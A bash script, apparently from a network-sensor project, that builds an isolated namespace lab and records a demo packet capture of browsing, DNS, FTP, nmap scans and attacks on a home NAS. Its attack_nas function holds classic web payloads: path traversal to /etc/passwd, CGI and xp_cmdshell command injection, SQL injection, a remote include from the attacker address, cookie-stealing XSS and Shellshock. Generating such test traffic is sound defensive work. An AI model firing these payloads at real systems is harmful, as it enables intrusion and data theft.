#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Record demo.pcap: real programs talk in network namespaces, tcpdump listens on the router.
#
#   laptop ──┐ 192.168.88.0/24               198.51.100.0/24 ┌── internet (web, files)
#            ├── lan ── router ── wan ───────────────────────┤
#   nas ─────┘ (tcpdump here)                 203.0.113.0/24 └── attacker
set -euo pipefail
export LC_ALL=C

HERE="$(dirname "$(realpath "${BASH_SOURCE[0]}")")"
readonly HERE
readonly OUTPUT="${1:-$HERE/demo.pcap}"
readonly LARGEST_FILE=300000
readonly PREFIX="demo$$"
readonly RESOLVER_FOLDER="/etc/netns/$PREFIX-laptop"
STARTED=()

die() { echo "record.sh: $*" >&2; exit 1; }
step() { echo "== $*"; }
inside() { local host="$1"; shift; ip netns exec "$PREFIX-$host" "$@"; }

show() { printf '%10s$ %s\n' "$1" "${*:2}"; }

# Run a command on a host; what it says is shown only if it fails.
run() {
    show "$@"
    inside "$@" >"$WORK/said" 2>&1 || { cat "$WORK/said" >&2; die "failed: ${*:2}"; }
}

# Start a command on a host. Not through `inside`: $! must be the program, not a shell around it.
start() {
    show "$@"
    ip netns exec "$PREFIX-$1" "${@:2}" >>"$WORK/log" 2>&1 &
    STARTED+=($!)
}

# Let a moment pass, so that a viewer of the replayed capture can tell the scenes apart.
pause() { sleep 0.7; }

wait_until() {
    local deadline=$((SECONDS + 10))
    until "$@" >/dev/null 2>&1; do
        ((SECONDS < deadline)) || { cat "$WORK/log" >&2; die "waited in vain for: $*"; }
        sleep 0.05
    done
}

stop_started() {
    local pid
    for pid in "${STARTED[@]}"; do kill "$pid" 2>/dev/null || true; done
    for pid in "${STARTED[@]}"; do wait "$pid" 2>/dev/null || true; done
    STARTED=()
}

clean_up() {
    local host
    stop_started
    for host in laptop nas internet attacker router; do
        ip netns delete "$PREFIX-$host" 2>/dev/null || true
    done
    rm -rf "$WORK" "$RESOLVER_FOLDER"
    rmdir /etc/netns 2>/dev/null || true
}

check_needs() {
    ((EUID == 0)) || die "needs root, for network namespaces"
    local missing=() need
    for need in ip:iproute2 tcpdump:tcpdump ethtool:ethtool sysctl:procps ping:iputils-ping \
        curl:curl dig:bind9-dnsutils nmap:nmap openssl:openssl strings:binutils \
        nginx:nginx-light dnsmasq:dnsmasq-base vsftpd:vsftpd; do
        command -v "${need%:*}" >/dev/null || missing+=("${need#*:}")
    done
    ((${#missing[@]} == 0)) || die "missing; apt-get install ${missing[*]}"
}

# Real cards do checksums and segmentation after the sniffer; here the kernel must do it before.
without_offloads() { inside "$1" ethtool -K "$2" tx off tso off gso off gro off >/dev/null; }

new_host() {
    ip netns add "$PREFIX-$1"
    # Without duplicate address detection an IPv6 address is usable at once.
    inside "$1" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.default.accept_ra=0
    ip -n "$PREFIX-$1" link set lo up
}

# bridge NAME MAC ADDRESS…: one side of the router
bridge() {
    ip -n "$PREFIX-router" link add "$1" address "$2" type bridge
    without_offloads router "$1"
    ip -n "$PREFIX-router" link set "$1" up
    local address
    for address in "${@:3}"; do ip -n "$PREFIX-router" address add "$address" dev "$1"; done
}

# connect HOST BRIDGE MAC GATEWAY GATEWAY6 ADDRESS…: a host with one network card
connect() {
    local host="$1" namespace="$PREFIX-$1" address
    new_host "$host"
    ip link add eth0 address "$3" netns "$namespace" \
        type veth peer name "$host" netns "$PREFIX-router"
    ip -n "$PREFIX-router" link set "$host" master "$2" up
    without_offloads "$host" eth0
    ip -n "$namespace" link set eth0 up
    for address in "${@:6}"; do ip -n "$namespace" address add "$address" dev eth0; done
    ip -n "$namespace" route add default via "$4"
    ip -n "$namespace" route add default via "$5"
}

make_network() {
    step "network: laptop and nas at home, a router, the Internet and an attacker"
    new_host router
    inside router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
    bridge lan 02:00:00:88:00:01 192.168.88.1/24 2001:db8:88::1/64
    bridge wan 02:00:00:99:00:01 198.51.100.1/24 203.0.113.1/24 2001:db8:100::1/64
    connect laptop lan 02:00:00:88:00:10 192.168.88.1 2001:db8:88::1 \
        192.168.88.10/24 2001:db8:88::10/64
    connect nas lan 02:00:00:88:00:20 192.168.88.1 2001:db8:88::1 \
        192.168.88.20/24 2001:db8:88::20/64
    connect internet wan 02:00:00:99:00:80 198.51.100.1 2001:db8:100::1 \
        198.51.100.80/24 198.51.100.21/24 2001:db8:100::80/64
    connect attacker wan 02:00:00:99:00:66 203.0.113.1 2001:db8:100::1 \
        203.0.113.66/24 2001:db8:100::66/64
    # A closed UDP port then answers every probe, as a small router's does, not one a second.
    inside nas sysctl -qw net.ipv4.icmp_ratelimit=0
    mkdir -p "$RESOLVER_FOLDER"
    printf 'nameserver 192.168.88.1\nsearch home.arpa\n' >"$RESOLVER_FOLDER/resolv.conf"
}

web_server() { # HOST SITE NAME
    local folder="$WORK/$1"
    mkdir -p "$folder"
    cp "$HERE/servers/nginx.conf" "$folder"
    cp -r "$HERE/sites/$2" "$folder/site"
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 \
        -subj "/CN=$3" -addext "subjectAltName=DNS:$3" \
        -keyout "$folder/key.pem" -out "$folder/certificate.pem" 2>>"$WORK/log"
    start "$1" nginx -p "$folder" -c "$folder/nginx.conf"
    wait_until inside "$1" curl --silent --fail http://127.0.0.1/
}

start_servers() {
    step "servers: nginx on nas and Internet, vsftpd on the Internet, dnsmasq on the router"
    chmod 755 "$WORK"
    web_server internet news news.example
    web_server nas home nas.home.arpa
    mkdir -p "$WORK/files/empty"
    seq --format='%.0f;20.5' 1 6000 >"$WORK/files/readings.csv"
    start internet vsftpd "$HERE/servers/vsftpd.conf" \
        -oanon_root="$WORK/files" -osecure_chroot_dir="$WORK/files/empty"
    wait_until inside internet curl --silent ftp://127.0.0.1/
    start router dnsmasq --conf-file="$HERE/servers/dnsmasq.conf"
    wait_until inside router dig +tries=1 +time=1 @127.0.0.1 news.example
}

start_recording() {
    step "tcpdump on the router's lan side"
    start router tcpdump -i lan -s 2000 -B 8192 -Z root --immediate-mode -w "$WORK/demo.pcap"
    wait_until grep -q "listening on lan" "$WORK/log"
}

browse() { run laptop curl --silent --show-error --fail --output /dev/null "$@"; }
attack() { run attacker curl --silent --path-as-is --max-time 5 --output /dev/null "$@"; }

look_up_names() {
    step "DNS"
    run laptop dig news.example A
    run laptop dig news.example AAAA
    run laptop dig news.example MX
    run laptop dig no-such-host.example A
    run laptop getent ahosts www.news.example
}

browse_pages() {
    step "browsing over IPv4, IPv6 and TLS"
    browse -4 'http://news.example/{index.html,style.css,coast.png}'
    pause
    browse -6 'http://news.example/{ferry.html,style.css}'
    browse -6 http://news.example/tides.html
    pause
    browse -4 --insecure 'https://news.example/{index.html,coast.png}'
}

fetch_files() {
    step "FTP"
    run laptop curl --silent --show-error ftp://files.example/
    run laptop curl --silent --show-error --output /dev/null ftp://files.example/readings.csv
}

ping_hosts() {
    step "ping"
    run laptop ping -n -4 -c 3 -i 0.5 news.example
    run laptop ping -n -6 -c 3 -i 0.5 news.example
}

show_root() {
    step "the classic test of a sensor: a page that reads like the answer of a captured root shell"
    browse -4 http://uid-test.example/uid/index.html
    browse -6 http://uid-test.example/uid/index.html
}

scan_nas() {
    step "scans from outside"
    run attacker nmap -n -sS --top-ports 300 --max-retries 1 192.168.88.20
    pause
    run attacker nmap -n -Pn -sX -p 21-25,80,110,139,143,445 --max-retries 0 192.168.88.20
    pause
    run attacker nmap -n -Pn -sU -p 53,123,161,500,1900 --max-retries 1 192.168.88.20
}

probe_version() {
    step "a version probe, which takes its time: meanwhile the laptop goes on"
    start attacker nmap -n -Pn -sV -p 80 192.168.88.20
    ping_hosts
    pause
    show_root
    wait "${STARTED[-1]}"
    unset "STARTED[-1]"
}

attack_nas() {
    local nas=http://192.168.88.20
    step "attacks on the web server at home"
    attack "$nas/index.html"
    attack "$nas/../../../../etc/passwd"
    attack "$nas/.htpasswd"
    pause
    attack "$nas/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd"
    attack "$nas/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"
    attack "$nas/scripts/root.exe?/c+dir"
    pause
    attack "$nas/category.php?id=-1+union+select+name,password+from+admin"
    attack "$nas/login.asp?user=x';exec+master..xp_cmdshell+'dir'--"
    attack "$nas/index.php?file=http://203.0.113.66/shell.txt"
    attack "$nas/guestbook?text=<script>alert(document.cookie)</script>"
    pause
    attack --header 'User-Agent: () { :;}; /usr/bin/id' "$nas/cgi-bin/status"
}

play_scenes() {
    local scene
    for scene in look_up_names browse_pages fetch_files scan_nas probe_version attack_nas; do
        "$scene"
        pause
    done
}

check_capture() {
    local capture="$1" size lost name
    step "check: nothing lost, small, right checksums, no trace of this machine"
    lost="$(grep 'packets dropped by kernel' "$WORK/log")"
    [[ "$lost" == "0 packets"* ]] || die "tcpdump: $lost"
    size="$(stat --format=%s "$capture")"
    ((size <= LARGEST_FILE)) || die "$size bytes: more than $LARGEST_FILE"
    if tcpdump -nnvvr "$capture" 2>/dev/null | grep -E 'incorrect|(bad|wrong) ([a-z0-9]+ )?cksum'; then
        die "wrong checksums"
    fi
    # A host name of a few letters turns up in any encrypted session by chance.
    name="$(uname -n)"
    ((${#name} > 4)) || name="$WORK"
    if strings "$capture" | grep -iF -e "$name" -e "$WORK" -e "$HERE"; then
        die "names of this machine in the capture"
    fi
}

check_needs
WORK="$(mktemp -d)"
trap clean_up EXIT
make_network
start_servers
start_recording
play_scenes
stop_started
check_capture "$WORK/demo.pcap"
install -m 644 "$WORK/demo.pcap" "$OUTPUT"
echo "$OUTPUT: $(tcpdump -nnr "$OUTPUT" 2>/dev/null | wc -l) frames, $(stat -c %s "$OUTPUT") bytes"
